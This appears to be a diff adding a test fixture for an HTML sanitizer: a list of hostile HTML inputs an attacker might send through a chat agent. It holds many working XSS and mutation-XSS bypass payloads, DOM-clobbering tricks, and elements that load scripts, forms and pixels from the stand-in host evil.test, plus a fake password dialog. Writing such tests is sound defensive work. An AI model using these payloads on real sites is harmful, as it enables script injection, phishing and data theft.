@@ -1,0 +1,91 @@
+/** HTML as an attacker would send it through a robot or an agent. Each piece calls `pwned()` where it gets through. */
+
+const JS = 'parent.pwned()';
+
+export const hostile: Record<string, string> = {
+  // Code in attributes
+  'event handler': `<img src="x" onerror="${JS}"><p onclick="${JS}" onmouseover=${JS}>a</p>`,
+  'event handler without a space': `<img/src="x"/onerror=${JS}>`,
+  'event handler on an unknown element': `<x onfocus=${JS} tabindex=1 autofocus>`,
+  'event handler of an animation': `<p style="animation: x" onanimationstart="${JS}">a</p>`,
+  'details that open themselves': `<details open ontoggle="${JS}">a</details>`,
+  'popover events': `<div popover id=x onbeforetoggle="${JS}">a</div><button popovertarget=x>b</button>`,
+  'video source error': `<video><source onerror="${JS}"></video>`,
+  'body load': `<body onload="${JS}"><p>a</p></body>`,
+
+  // Code in elements
+  script: `<script>${JS}</script><SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
+  'nested script': `<scr<script>ipt>${JS}</scr</script>ipt>`,
+  iframe: `<iframe src="javascript:${JS}"></iframe><iframe srcdoc="<script>${JS}</script>"></iframe>`,
+  'object and embed': `<object data="javascript:${JS}"></object><embed src="data:text/html,<script>${JS}</script>">`,
+  'base that moves addresses': `<base href="https://evil.test/"><a href="login">a</a>`,
+  'meta refresh': `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
+  'link to a sheet': `<link rel="stylesheet" href="https://evil.test/x.css"><link rel=import href=x>`,
+  'style element': `<style>body{display:none}@import "https://evil.test/x.css"</style>`,
+  'shadow root': `<div><template shadowrootmode="open"><script>${JS}</script><img src=x onerror=${JS}></template></div>`,
+  'form that takes over': `<form action="https://evil.test"><input name=a><button formaction="javascript:${JS}">b</button></form>`,
+  'frames and portals': `<frameset><frame src="javascript:${JS}"></frameset><portal src="https://evil.test"></portal>`,
+  marquee: `<marquee onstart="${JS}">a</marquee>`,
+  'custom element': `<desk-chat site="x" relay="https://evil.test"></desk-chat><desk-chat-panel></desk-chat-panel>`,
+  'dialog in front of the chat': `<dialog open>Your password, please</dialog>`,
+
+  // Addresses
+  'javascript address': `<a href="javascript:${JS}">a</a>`,
+  'javascript with capitals and blanks': `<a href=" \t JaVaScRiPt:${JS}">a</a>`,
+  'javascript broken by line ends': `<a href="java\nscript:${JS}">a</a><a href="java&#9;script:${JS}">b</a>`,
+  'javascript as entities': `<a href="&#106;&#x61;vascript&colon;${JS}">a</a>`,
+  'javascript after control characters': `<a href="&#1;javascript:${JS}">a</a><a href="\u0000javascript:${JS}">b</a>`,
+  'vbscript address': `<a href="vbscript:msgbox(1)">a</a>`,
+  'data address': `<a href="data:text/html,<script>${JS}</script>">a</a>`,
+  'data image': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${JS}'/>" alt="a">`,
+  'blob and file': `<a href="blob:https://evil.test/1">a</a><a href="file:///etc/passwd">b</a>`,
+  'view-source and intent': `<a href="view-source:https://evil.test">a</a><a href="intent://x#Intent;end">b</a>`,
+  'schemes DOMPurify allows': `<a href="ftp://evil.test">a</a><a href="sms:1">b</a><a href="xmpp:a@b">c</a><a href="callto:1">d</a>`,
+  'address of the page itself': `<a href="/account/delete">a</a><a href="?logout">b</a><a href="#top">c</a>`,
+  'address without a scheme': `<a href="//evil.test/x">a</a><img src="//evil.test/x.png">`,
+  'host disguised by a name': `<a href="https://bank.example@evil.test/">a</a>`,
+  'image of another host': `<img src="https://evil.test/pixel.gif" alt="Pixel">`,
+  'image of a host that looks alike': `<img src="https://media.test.evil.test/x.png"><img src="https://media.test:8443/x.png">`,
+  'source set': `<img src="https://media.test/x.png" srcset="https://evil.test/x.png 2x" sizes="1px">`,
+  'picture sources': `<picture><source srcset="https://evil.test/x.png"><img src="https://media.test/x.png"></picture>`,
+  'old background': `<table background="https://evil.test/x.png"><tr><td background="https://evil.test/y.png">a</td></tr></table>`,
+  'href on something else': `<p href="https://evil.test">a</p><div src="https://evil.test">b</div>`,
+  'other addresses of a link': `<a href="https://fine.test" ping="https://evil.test" target="_top" rel="opener" download>a</a>`,
+  'image map': `<img src="https://media.test/x.png" usemap="#m" ismap><map name=m><area href="javascript:${JS}"></map>`,
+  'link inside a link': `<a href="https://fine.test"><a href="javascript:${JS}">a</a></a>`,
+
+  // Other name spaces
+  svg: `<svg onload="${JS}"><script>${JS}</script><a xlink:href="javascript:${JS}"><text>a</text></a></svg>`,
+  'svg animation': `<svg><a><animate attributeName=href values="javascript:${JS}"/><text>a</text></a></svg>`,
+  'svg use': `<svg><use href="data:image/svg+xml,<svg id='x' onload='${JS}'/>#x"></use></svg>`,
+  'svg foreign object': `<svg><foreignObject><iframe src="javascript:${JS}"></iframe></foreignObject></svg>`,
+  math: `<math href="javascript:${JS}"><mtext><img src=x onerror=${JS}></mtext></math>`,
+  'math action': `<math><maction actiontype="statusline#https://evil.test" xlink:href="javascript:${JS}">a</maction></math>`,
+
+  // Mutation: harmless when first parsed
+  'mutation by style in svg': `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
+  'mutation by math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${JS}&gt;">`,
+  'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
+  'mutation by nested forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
+  'mutation by title': `<svg><title><style><img title="</style><img src onerror=${JS}>">`,
+  'mutation by a comment': `<!--><img src=x onerror=${JS}>--><!--!> <img src=x onerror=${JS}>`,
+  'mutation by a table': `<table><a href="</table><img src=x onerror=${JS}>">a</a></table>`,
+  'mutation by a select': `<select><template><img src=x onerror=${JS}></template></select>`,
+  'mutation by plain text': `<plaintext><img src=x onerror=${JS}>`,
+  'mutation by xmp': `<xmp><p title="</xmp><img src=x onerror=${JS}>"></xmp>`,
+  'mutation by annotation': `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${JS}></style></annotation-xml></math>`,
+  'processing instruction': `<?xml-stylesheet href="javascript:${JS}"?><p>a</p><![CDATA[<img src=x onerror=${JS}>]]>`,
+  'unclosed everything': `<img src="x" onerror="${JS}" <p "><b title='`,
+
+  // Names and looks of the page
+  'clobbering by id': `<a id="body" href="https://fine.test">a</a><img name="getElementById"><form id=attributes><input id=x></form>`,
+  'clobbering by name': `<img name="currentScript"><a name="DeskChat" id="DeskChat">a</a>`,
+  'style attribute': `<div style="position:fixed;inset:0;background:url(https://evil.test)">a</div>`,
+  'class attribute': `<div class="primary question">a</div>`,
+  'roles and labels': `<div role="alertdialog" aria-label="Sign in" aria-live="assertive" tabindex="0">a</div>`,
+  'slots and parts': `<div slot="x" part="panel" is="desk-chat" exportparts="panel">a</div>`,
+  'editing and dragging': `<div contenteditable draggable="true" inert hidden accesskey="x" autofocus>a</div>`,
+  'data of others': `<div data-turbo="false" data-action="x#y" data-robotid="1">a</div>`,
+  'data of a flow, forged': `<b data-type="3" data-id="81">a</b><b data-type="2" data-id="javascript:1">b</b><b data-id="9e9">c</b>`,
+  'language and direction': `<p lang="zh" dir="rtl" translate="no">a</p>`,
+};
